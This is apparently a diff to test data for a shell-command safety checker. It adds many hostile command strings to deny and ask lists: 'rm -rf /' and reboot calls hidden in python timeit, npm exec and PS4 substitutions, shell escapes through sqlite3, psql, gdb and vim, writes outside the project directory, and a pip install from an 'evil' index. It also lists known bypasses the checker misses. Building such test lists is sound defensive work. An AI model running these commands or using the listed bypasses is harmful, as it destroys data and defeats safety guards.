@@ -93,6 +93,15 @@ DENIED = [
     'python -m pdb -c \'!import os; os.system("reboot")\' x.py',
     'coverage run -m timeit \'import os; os.system("rm -rf /")\'',
     'python -m runpy timeit; python -m trace -t -m timeit \'__import__("os").system("reboot")\'',
+    # Lines and backquotes that the shell reads once more.
+    'python -c \'import timeit; timeit.timeit("__import__(\\"os\\").system(\\"rm -rf /\\")")\'',
+    'python -m timeit -n1 -- \'__import__("os").system("rm -rf /")\'',
+    'python -m cProfile -o out -m timeit \'__import__("os").system("rm -rf /")\'',
+    'python -X dev -m timeit \'__import__("os").system("rm -rf /")\'',
+    'python3.12 -Im timeit \'__import__("os").system("rm -rf /")\'',
+    'python -mtimeit -s\'import os\' \'os.system("rm -rf /")\'', "npm exec -c 'rm -rf /'", "npx -c 'rm -rf /'",
+    "npm exec --call='rm -rf /'", "npm x -c 'rm -rf /'", "pnpm exec -c 'rm -rf /'",
+    "PS4='$(rm -rf /)'; x=`echo \\`rm -rf /\\``", 'git &> a x; r\\\nm -rf /', 'x=1\\\n2 rm &> a -r\\\nf /',
 ]
 
 ASKED = [
@@ -229,6 +238,45 @@ ASKED = [
     'cargo new ../x', '(cd sub); touch ../x', "ed -s a <<< 'w ../x'", 'docker cp c:/x ../y', 'rsync -a a/ ../b/',
     'curl -O --output-dir ../x y', 'wget -P ../x y', 'truncate -s 0 ../x', 'cmake -B ../build', 'cd .. && touch x',
     'xargs touch ../x', 'tee ../x < a', 'find . -exec cp {} ../x \\;',
+    # The same classes, as an attack spells them.
+    'cat x | busybox sh', 'cat x | env sqlite3 a.db', 'cat x | sudo mysql', "cat x | sqlite3 a.db '.read /dev/stdin'",
+    "sqlite3 a.db -cmd '.shell id' 'select 1'", 'sqlite3 -cmd ".system id" a.db .quit', "psql -c '\\! id'",
+    "psql -v ON_ERROR_STOP=1 <<< '\\copy t to program id'", "mysql -e '\\! id'", "mysql -e 'system id'",
+    'psql -f /dev/stdin < x', 'psql -f <(cat x)', "python -m IPython -c '!rm -rf /'",
+    'python -m pip install --index-url http://evil x', 'python -m zipfile -e a.zip ../x',
+    'python -m tarfile -e a.tar ../x', 'python -m tarfile -c ../x.tar a', 'yarn node -e \'require("child_process")\'',
+    'npm run x -- --script-shell=id', 'npm config set script-shell id', 'npm set script-shell id',
+    'npm_config_script_shell=id npm test', 'make -f <(cat x)', 'make -f/dev/stdin < x', "make -f- <<< 'x:;id'",
+    'make -if - x', "make --eva='x:;id'", 'MAKEFLAGS=--eval=x make', 'MAKEFILES=/dev/stdin make', 'cmake -P /dev/stdin',
+    'just -f - x', 'ninja -f /dev/stdin', 'sed -nf- x', "sed -e '1e id' x", "sed --expression='1e id' x", 'awk -f- x',
+    'awk -f /dev/fd/3 3< x', 'perl /dev/stdin < x', 'perl -x /dev/stdin', 'node -r /dev/stdin', 'php -f /dev/stdin',
+    "gdb -batch -ex 'shell id'", "gdb -p 1 <<< 'shell id'", 'vim -s /dev/stdin x', "ex - x <<< '!id'",
+    'find . -files0-from - -delete', 'xargs -a x sh -c', 'tar -xf a.tar --to-command=id', 'tar cf a.tar -T -',
+    'tar xf a.tar -P', 'tar xf a.tar -C /opt', 'tar x -f a.tar --one-top-level=../x', 'bsdtar -cf ../x.tar a',
+    'cpio -id -D ../x < a', 'pax -w -f ../x a', '7z x a.7z -o../x', 'unzip -od ../x a.zip', 'unzip a.zip -d.git',
+    'jar cf ../x.jar a', 'ar rcs ../x.a a.o', 'git -C .. init x', 'git -C ../x reset', 'git --work-tree=.. checkout -f',
+    'git clone x.org/a.git ~/x', 'git submodule add x.org/a ../y', 'git archive -o ../x.tar HEAD',
+    'git archive --output=../x.tar HEAD', 'git bundle create ../x HEAD', 'git format-patch -o ../x HEAD~1',
+    'git worktree add -b t ../x', 'git worktree move a ../x', 'git config --file ../x a.b c',
+    'git config -f ~/.gitconfig a.b c', "git config --global alias.x '!id'", 'GIT_DIR=../x git commit',
+    'cp --target-directory=../x a', 'cp -t../x a', 'cp -at .. a', 'mv -t .. a', 'install -D a ../x', 'install -d ../x',
+    'ln a ..', 'ln -sfn a ../x', 'truncate --size=0 ../x', 'fallocate -l 1G ../x', 'mkfifo ../x', 'mknod ../x p',
+    'mktemp -p ..', 'mktemp ../xXXXX', 'tee -- ../x < a', 'tee -a .git/config < a', 'sponge ../x < a',
+    'split -d a ../x', 'csplit -k a --prefix=../x 10', 'curl -o ../x y', 'curl -O --output-dir .. y',
+    'curl -JO y -o ..', 'wget -O../x y', 'wget --directory-prefix=.. y', 'aria2c -d .. y', 'ffmpeg -i a ../b.mp4',
+    'convert a ../b.png', 'pandoc a.md -o ../a.pdf', 'npm pack --pack-destination ..', 'npm install --prefix .. x',
+    'pip install --target=../x y', 'pip download -d ../x y', 'cargo install --root ../x y', 'go build -o ../x',
+    'gcc a.c -o../x', 'sort -o../x a', 'sed -i.bak s/a/b/ ../x', 'perl -i -pe s/a/b/ ../x', 'patch ../x < a.patch',
+    'patch -o ../x a b.patch', "sqlite3 a.db '.output ../x'", "sqlite3 a.db '.backup ../x'",
+    'sqlite3 a.db "select writefile(\'../x\', \'a\')"', 'xxd -r a ../x', 'uniq a ../x', 'base64 -d a -o ../x',
+    'openssl enc -in a -out ../x', 'gpg -o ../x -d a', 'ssh-keygen -f ../x', 'script ../x', 'nohup ls > ../x',
+    'strace -o ../x ls', 'time -o ../x ls', 'ls >../x', 'ls >|../x', 'ls &>../x', 'ls 2>>../x', 'exec 3<>../x',
+    ': > ../x', 'echo $(ls > ../x)', 'awk \'{print > "../x"}\' a', "sed -n 'w../x' a", "sed -n '/a/w ../x' a",
+    "ed a <<< $'w ../x\\nq'", "vim -c 'w ../x' -c q a", "vim -es '+w! ../x' +q a",
+    'emacs --batch a --eval \'(write-file "../x")\'', 'rm ../x', 'mv ../x a', 'chmod 777 ../x', "bash $1-c 'git push'",
+    'bash -c$1 "$x"', 'bash $X reboot', 'bash "$X" reboot', 'python $X \'import os; os.system("id")\'',
+    "PS4='$(id)'; set -x; ls", 'PROMPT_COMMAND=id', 'read PATH < x', 'printf -v PATH /tmp', 'PATH=.:$PATH; ls',
+    'EDITOR=vim', "PROMPT_COMMAND\\\n='id' bash -i", 'x=\'id\'; bash -c$1 "$x"', "PS4=$'\\x24(id)' bash -x a",
 ]
 
 RM_RF_AND_DD = [
@@ -255,6 +303,7 @@ RM_RF_AND_DD = [
     'python -c \'import builtins; builtins.eval("__import__(\\"os\\").system(\\"rm -rf x\\")")\'',
     # Quotes that do not keep the shell from substituting.
     "(( 'a[$(rm -rf x)]' ))", "echo $(( 'a[$(rm -rf x)]' ))", "echo ${a['$(rm -rf x)']}", "a['b[$(rm -rf x)]']=1",
+    'dd if=a of=../x',
 ]
 
 # fmt: on
@@ -298,8 +347,11 @@ NOT_CAUGHT = [
     ("[[ $x -eq 1 ]]", "a variable that holds a[$(…)] runs it; what a variable holds is not followed"),
     ('cp x y; echo z > "$out"', "where a computed path leads is not known"),
     ("f() { f & f & }; f", "only pipes give a fork bomb away; limits hold it"),
-    ("printf -v PATH /tmp", "variables that builtins set are not followed"),
     ("sh planted.sh < /dev/null", "what a script holds is not read"),
     ("sed -f planted.sed x", "what a file holds is not read"),
+    ("tar xf a --transform 's/^/..\\//'", "what an archive writes is not known"),
+    ("cat x | xargs sqlite3 a.db", "a query that is computed is not known to be more than a query"),
+    ("awk -v f=../x '{print > f}' a", "variables of small programs are not followed"),
+    ("sqlite3 ../x.db 'create table t(a)'", "whether a query writes is not read"),
     ("bash < planted.sh", "what a file holds is not read"),
 ]
